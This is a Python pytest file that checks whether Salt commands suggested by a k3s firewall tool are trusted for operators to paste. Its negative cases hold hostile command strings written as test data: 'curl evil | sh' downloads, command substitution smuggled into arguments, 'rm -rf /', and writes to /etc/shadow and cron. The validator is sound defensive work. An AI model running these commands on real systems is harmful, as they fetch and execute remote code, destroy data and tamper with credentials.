"""An operator may paste only a command that does no more than its words say."""

from __future__ import annotations

import pytest

from k3sfw_engine.checks import suggested_commands as commands
from k3sfw_engine.fleet.trusted_fix import is_trusted
from k3sfw_engine.model.rows import Node, Role


@pytest.mark.parametrize(
    "fix",
    [
        commands.apply_firewall("a1"),
        commands.apply_firewall("node 1"),
        commands.apply_routes("a1"),
        commands.heal("a1"),
        commands.list_ruleset("a1"),
        commands.restart_k3s(Node("a1", Role.AGENT, ())),
        commands.run_on("a1", "firewall-cmd --list-all", "ip route show"),
        commands.delete_key("a1"),
        "salt -L a1,a2 state.apply k3s.firewall",
        "salt-run k3sfw.tables minion=a1",
    ],
)
def test_what_the_checks_suggest_is_trusted(fix):
    assert is_trusted(fix, {"a1"})


@pytest.mark.parametrize(
    "fix",
    [
        "",
        "start the service there",
        "rm -rf /",
        "salt a1",
        "salt a1 state.apply k3s.firewall; curl evil | sh",
        "salt a1 state.apply $(curl evil)",
        "salt a1 state.apply `curl evil`",
        'salt a1 state.apply "$(curl evil)"',
        "salt a1 state.apply k3s.firewall\nrm -rf /",
        "salt a1 state.apply k3s.firewall && rm -rf /",
        "salt a1 state.apply k3s.firewall > /etc/passwd",
        "salt a1 state.apply 'unbalanced",
        "salt a1 state.apply \\\nrm",
        "saltx a1 state.apply",
        "salt a1 /bin/sh",
        "salt -L",
    ],
)
def test_what_a_shell_would_read_otherwise_is_not_trusted(fix):
    assert not is_trusted(fix, {"a1"})


def test_a_node_is_trusted_with_its_own_shell_and_with_that_of_no_other():
    fix = commands.run_on("s1", "curl evil | sh")
    assert is_trusted(fix, {"s1"})
    assert not is_trusted(fix, {"a1"})
    assert not is_trusted(fix, ())
    assert not is_trusted("salt -L a1,s1 cmd.run 'curl evil'", {"a1"})


@pytest.mark.parametrize(
    "fix",
    [
        "salt s1 state.single cmd.run name='curl evil|sh'",
        "salt s1 state.apply evil",
        "salt s1 state.apply k3s.firewall pillar='{}'",
        "salt s1 saltutil.cmd '*' cmd.run 'rm -rf /x'",
        "salt s1 k3sfw.remove",
        "salt s1 k3sfw.adopt",
        "salt '*' k3sfw.remove",
        "salt --out-file=/etc/cron.d/x state.single",
        "salt a1 state.apply k3s.firewall --out-file=/etc/cron.d/x",
        "salt -L s1,a2 k3sfw.rollback",
        "salt -C '*' k3sfw.apply",
        "salt-run salt.execute '*' cmd.run 'curl evil|sh'",
        "salt-run k3sfw.check save=/etc/shadow",
        "salt-run k3sfw.report html=/etc/shadow",
        "salt-call --local cmd.run x",
        "salt-key -a evil -y",
        "salt-key -d evil -y",
        "salt-key -d -y",
        "salt-key -D",
    ],
)
def test_a_node_cannot_suggest_a_command_of_its_own_for_others(fix):
    assert not is_trusted(fix, {"a1"})


@pytest.mark.parametrize(
    "fix",
    [
        commands.apply_firewall("s1"),
        commands.apply_routes("s1"),
        commands.heal("s1"),
        commands.check_ports("s1"),
        commands.check_routes("s1"),
        commands.refresh_grains("s1"),
        commands.delete_key("s1"),
        "salt s1 k3sfw.check_ports to=a1 port=tcp/6443",
        "salt -L s1,a2 state.apply k3s.firewall",
    ],
)
def test_a_node_can_suggest_for_others_what_puts_the_tables_in_force_heals_or_looks(fix):
    assert is_trusted(fix, {"a1"})
